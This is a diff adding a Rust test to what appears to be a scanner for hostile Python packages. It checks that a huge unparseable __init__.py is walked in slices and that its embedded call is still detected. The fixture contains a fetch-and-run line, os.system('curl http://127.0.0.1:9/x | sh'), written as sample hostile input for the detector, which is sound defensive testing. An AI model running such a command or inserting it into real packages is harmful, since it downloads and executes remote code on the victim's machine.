@@ -228,3 +228,30 @@ fn nested_comprehensions_are_unrolled_within_a_budget() {
     let f = on_small_stack(vec![("pkg/__init__.py".to_string(), FileRole::PackageInit, text)]);
     assert!(f.iter().any(|x| x.message.contains("127.0.0.1:9/y") || x.evidence.contains("127.0.0.1:9/y")), "{f:#?}");
 }
+
+/// A large module that does not parse (binary bytes, as a hostile package may name a
+/// blob `.py`): ruff's error recovery builds about 50 bytes of tree per byte of such
+/// text, so it is walked in slices with its errors counted instead of parsed whole, and
+/// the code before the junk is still found.
+#[test]
+fn a_large_module_that_does_not_parse_is_walked_in_slices() {
+    let mut state = 0x9e37_79b9_7f4a_7c15u64;
+    let mut junk = b"import os\nos.system('curl http://127.0.0.1:9/x | sh')\n".to_vec();
+    while junk.len() < 5 << 20 {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        junk.extend_from_slice(&state.to_le_bytes());
+    }
+    // and one broken statement of 5 MB between balanced brackets, which the statement
+    // scan makes a slice of its own
+    let one_statement = format!("import os\nos.system('curl http://127.0.0.1:9/x | sh')\nx = ({})\n", "1 2 ".repeat(5 << 18));
+    for text in [crate::analysis::decode_owned(junk), one_statement] {
+        model::LONGEST_PARSE.with(|l| l.set(0));
+        let m = model::build("pkg/__init__.py", &text, FileRole::PackageInit, ExecContext::Import);
+        let longest = model::LONGEST_PARSE.with(|l| l.get());
+        assert!(longest < 1 << 20, "parsed {longest} bytes at once of a {}-byte module", text.len());
+        assert!(m.parse_errors > 0);
+        assert!(m.calls.iter().any(|c| c.q == "os.system" && c.line == 2), "{:?}", m.calls.iter().take(5).map(|c| (&c.q, c.line)).collect::<Vec<_>>());
+    }
+}
